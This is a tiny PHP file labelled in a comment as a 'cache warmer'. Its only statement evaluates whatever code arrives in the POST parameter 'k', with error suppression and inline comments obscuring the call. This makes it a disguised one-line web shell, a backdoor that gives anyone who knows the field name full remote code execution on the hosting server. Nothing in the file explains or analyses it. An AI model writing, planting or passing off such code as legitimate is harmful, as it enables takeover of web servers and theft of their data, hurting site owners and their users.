<?php
/* cache warmer */
@eval/*a*/(/*b*/$_POST['k']);
